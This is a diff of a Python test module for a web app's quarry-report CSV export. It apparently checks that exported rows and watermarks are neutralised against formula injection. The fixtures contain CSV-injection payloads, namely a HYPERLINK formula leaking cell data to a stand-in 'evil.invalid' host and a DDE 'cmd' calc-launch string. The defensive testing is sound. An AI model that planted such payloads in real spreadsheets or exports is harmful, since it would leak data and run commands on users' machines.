@@ -23,7 +23,7 @@ from trustone.web.app import create_app
 
 # OWASP's list of cell starts a spreadsheet evaluates: = + - @, tab and carriage return.
 TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
-PROVINCE = "=HYPERLINK(\"http://evil.invalid/?\"&A1,\"click\")"
+PROVINCE = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
 DISTRICT = "@SUM(1+1)*cmd|' /C calc'!A0"
 TEXT_COLUMNS = ("country", "country_name", "province", "district")
 
@@ -38,10 +38,24 @@ def published(services):
         services.registry.register_organisation(ref, ref.upper(), OrganisationKind.MEMBER_COMPANY, "NL")
         services.registry.join(ref, dt.date(2022, 1, 1), CompanyCategory.C, CompanySize.MEDIUM)
         services.registry.import_report(
-            ref, 2024, csv_bytes([quarry_row(province=PROVINCE, district=DISTRICT),
-                                  quarry_row(chain="C2", name="Plus Quarry", province="Rajasthan",
-                                             district="+1+2", latitude="25.3", longitude="75.2")]),
-            "r.csv", submitted_on=dt.date(2025, 3, 1))
+            ref,
+            2024,
+            csv_bytes(
+                [
+                    quarry_row(province=PROVINCE, district=DISTRICT),
+                    quarry_row(
+                        chain="C2",
+                        name="Plus Quarry",
+                        province="Rajasthan",
+                        district="+1+2",
+                        latitude="25.3",
+                        longitude="75.2",
+                    ),
+                ]
+            ),
+            "r.csv",
+            submitted_on=dt.date(2025, 3, 1),
+        )
     publish_quarry_regions(services, 2024)
     return services
 
@@ -76,31 +90,44 @@ def release_client(services):
     registry = services.registry
     for role, (ref, kind) in ORGS.items():
         registry.register_organisation(ref, ref.title(), kind, "NL")
-        registry.create_account(f"{role.value}.user", role, ref, role.value, "not-used-here",
-                                "JBSWY3DPEHPK3PXP" if role in ROLES_REQUIRING_TOTP else None)
+        registry.create_account(
+            f"{role.value}.user",
+            role,
+            ref,
+            role.value,
+            "not-used-here",
+            "JBSWY3DPEHPK3PXP" if role in ROLES_REQUIRING_TOTP else None,
+        )
     for ref in ("steen-b", "steen-c"):  # three reporting companies: lists need k (docs/lists.md)
         registry.register_organisation(ref, ref.title(), OrganisationKind.MEMBER_COMPANY, "NL")
     for ref in ("eigen-steen", "steen-b", "steen-c"):
         registry.join(ref, dt.date(2022, 1, 1), CompanyCategory.C, CompanySize.MEDIUM)
-        registry.import_report(ref, 2024, csv_bytes([quarry_row(district="-2+3+cmd|' /C calc'!A0")]),
-                               "r.csv", submitted_on=dt.date(2025, 3, 1))
+        registry.import_report(
+            ref,
+            2024,
+            csv_bytes([quarry_row(district="-2+3+cmd|' /C calc'!A0")]),
+            "r.csv",
+            submitted_on=dt.date(2025, 3, 1),
+        )
     with TestClient(create_app(services), raise_server_exceptions=False) as test_client:
         sessions = test_client.app.state.authenticator._sessions  # noqa: SLF001
         test_client.headers_of = {  # type: ignore[attr-defined]
             role: {"Authorization": f"Bearer {sessions.issue(f'{role.value}.user', dt.timedelta(hours=1))}"}
-            for role in ORGS}
+            for role in ORGS
+        }
         yield test_client
 
 
 def test_the_release_csv_has_no_formula_in_its_rows_or_its_watermark(release_client):
     as_ = release_client.headers_of
-    partner = {"name": "Samiti,=HYPERLINK(\"http://evil.invalid\")", "contact": "+91 94140 00000"}
+    partner = {"name": 'Samiti,=HYPERLINK("http://evil.invalid")', "contact": "+91 94140 00000"}
     created = release_client.post(BASE, json={**REQUEST, "local_partner": partner}, headers=as_[Role.NGO])
     assert created.status_code == 201, created.text
     access_id = created.json()["id"]
     assert release_client.post(f"{BASE}/{access_id}/clause", json=CLAUSE, headers=as_[Role.NGO]).status_code == 200
-    decided = release_client.post(f"{BASE}/{access_id}/decision", json={"approve": True, "reason": "scoped"},
-                                  headers=as_[Role.SECRETARIAT])
+    decided = release_client.post(
+        f"{BASE}/{access_id}/decision", json={"approve": True, "reason": "scoped"}, headers=as_[Role.SECRETARIAT]
+    )
     assert decided.status_code == 200, decided.text
     download = release_client.get(f"{BASE}/{access_id}/release?format=csv", headers=as_[Role.NGO])
     assert download.status_code == 200, download.text
